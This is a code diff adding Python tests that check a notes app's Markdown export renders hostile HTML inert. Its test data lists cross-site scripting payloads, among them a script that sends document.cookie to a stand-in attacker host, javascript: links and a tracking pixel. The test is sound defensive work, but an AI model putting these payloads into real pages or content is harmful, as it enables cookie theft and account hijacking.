@@ -163,3 +163,51 @@ def test_an_article_without_notes_exports_cleanly(store: NoteStore) -> None:
     front, entries = parse_markdown(to_markdown([item]))
     assert front["source"] == "aleppo.txt" and entries == []
     assert json.loads(to_json([item]))["total"] == 0
+
+
+# -- Markdown export never passes HTML through (issue 10 item 13) -----------------------------
+
+HOSTILE = [
+    '<img src=x onerror="alert(1)">',
+    "<script>fetch('https://evil.example/'+document.cookie)</script>",
+    "[click me](javascript:alert(1))",
+    "![pixel](https://tracker.example/p.png?u=1)",
+    "<https://tracker.example/autolink>",
+    "&lt;script&gt; and \\[escaped\\] and <!-- comment -->",
+    "[ref]: javascript:alert(2)",
+]
+
+
+def rendered(markdown: str) -> str:
+    """The export as a notes app that renders HTML in Markdown would show it, with links
+    not vetted (markdown-it itself refuses javascript: links; not every renderer does)."""
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark", {"html": True})
+    md.validateLink = lambda _url: True  # type: ignore[method-assign]
+    body = markdown.split("---\n", 2)[2]  # without the front matter
+    return md.render(body)
+
+
+def test_html_in_quoted_text_notes_and_titles_is_exported_inert(store: NoteStore) -> None:
+    article = make_article([f"Title {HOSTILE[0]}", *HOSTILE])
+    saved = store.remember_article(article)
+    for i, phrase in enumerate(HOSTILE):
+        add(store, article, phrase, note=HOSTILE[(i + 1) % len(HOSTILE)])
+    add(store, article, "[click me]", kind="quote", label=HOSTILE[1])
+    markdown = to_markdown([collect(store, store.article(saved.id))])
+    html = rendered(markdown)
+    for tag in ("<img", "<script", "<a ", "<!--"):
+        assert tag not in html, f"{tag} rendered live:\n{html}"
+    # The text itself is all still there, shown as text.
+    assert "&lt;script&gt;fetch(" in html and "[click me](javascript:alert(1))" in html
+    assert "![pixel](https://tracker.example/p.png?u=1)" in html
+
+
+def test_a_source_that_is_not_a_web_address_is_not_made_a_link(store: NoteStore) -> None:
+    article = make_article(url="javascript:alert(1)")
+    first = make_article([*PARAGRAPHS, "Other."], url="https://e.org/a")
+    add(store, article, "70 percent", note="n")
+    add(store, first, "70 percent", note="m")
+    html = rendered(to_markdown([collect(store, s) for s in store.articles()]))
+    assert 'href="javascript:' not in html and 'href="https://e.org/a"' in html
